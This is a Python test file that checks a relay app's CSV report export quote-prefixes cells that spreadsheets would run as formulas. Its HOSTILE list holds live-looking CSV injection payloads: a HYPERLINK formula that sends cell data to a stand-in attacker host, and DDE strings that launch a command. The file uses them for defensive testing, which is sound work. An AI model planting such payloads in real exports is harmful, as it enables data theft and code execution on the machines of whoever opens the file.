"""`relay reports export` never writes a cell a spreadsheet would run as a formula (issue 17, item 3).

Citizens' texts and senders go into the export verbatim; OWASP's rule: no cell may start with `=`, `+`,
`-`, `@`, tab or carriage return. Such a cell is written with a leading `'` (shown as text by every
spreadsheet), and nothing else of it changes.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import datetime, timezone

from sqlalchemy import create_engine
from sqlalchemy.orm import Session

from channels.base import Inbound
from relay.inbound import handling as inbound
from relay.app.settings import load_settings

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"help is here")',
    "+cmd|' /C calc'!A0 water needed at the school",
    "-2+3 people trapped near the bridge",
    "@SUM(1+9)*cmd|' /C calc'!A0 we need food",
    "\t=1+1 roof collapsed on the church",
    "\r=1+1 flooding in the lower town",
]


def relay(cwd, *args):
    return subprocess.run([sys.executable, "-m", "relay.app.cli", *args], cwd=cwd, capture_output=True, text=True,
                          env=dict(os.environ), timeout=120)


def test_exported_cells_never_start_a_formula(tmp_path):
    assert relay(tmp_path, "init").returncode == 0
    settings = load_settings(tmp_path / "relay.toml")
    engine = create_engine(settings.resolved_database_url)
    for number, text in enumerate(HOSTILE):
        with Session(engine) as session, session.begin():
            inbound.handle(session, Inbound("sms", f"SM{number}", f"+5093700{number:04d}", "+12015550100", text,
                                            datetime.now(timezone.utc)), settings)
    engine.dispose()

    for flags in ([], ["--reveal", "--purpose", "review"]):
        result = relay(tmp_path, "reports", "export", *flags)
        assert result.returncode == 0, result.stderr
        rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
        assert len(rows) == len(HOSTILE)
        for row in rows:
            for column, cell in row.items():
                assert not cell.startswith(FORMULA_START), (flags, column, cell)
        if flags:  # revealed: every text is there, behind the one quote (defusedcsv also escapes "|", DDE's pipe)
            stored = [text.strip() for text in HOSTILE]  # as the inbound path stores them
            assert sorted(row["text"] for row in rows) == sorted("'" + t.replace("|", "\\|") for t in stored)
            assert {row["sender"] for row in rows} == {f"'+5093700{n:04d}" for n in range(len(HOSTILE))}


def test_tab_and_carriage_return_cells_are_neutralised_too():
    """defusedcsv leaves these two of OWASP's list out; a volunteer's translation is stored unstripped."""
    from relay.core.csv_safe import dict_writer

    out = io.StringIO()
    writer = dict_writer(out, ["a", "b", "c", "d"])
    writer.writeheader()
    writer.writerow({"a": "\t=1+1", "b": "\r=cmd", "c": "-12.5", "d": "plain = text"})
    row = next(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert row == {"a": "'\t=1+1", "b": "'\r=cmd", "c": "-12.5", "d": "plain = text"}
